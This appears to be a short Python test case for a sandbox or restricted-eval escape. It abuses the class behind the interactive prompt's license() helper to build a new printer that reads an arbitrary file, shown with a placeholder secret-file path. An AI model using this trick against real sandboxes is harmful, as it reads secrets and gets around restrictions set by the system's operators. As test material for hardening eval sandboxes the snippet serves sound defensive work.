# attack: the printers of the interactive prompt read files: license() is one, and a new one takes any path
# family: eval
printer = type(license)
made = printer("x", "$SECRET_FILE", files=("$SECRET_FILE",), dirs=("",))
print("REACHED", license)
print(made)
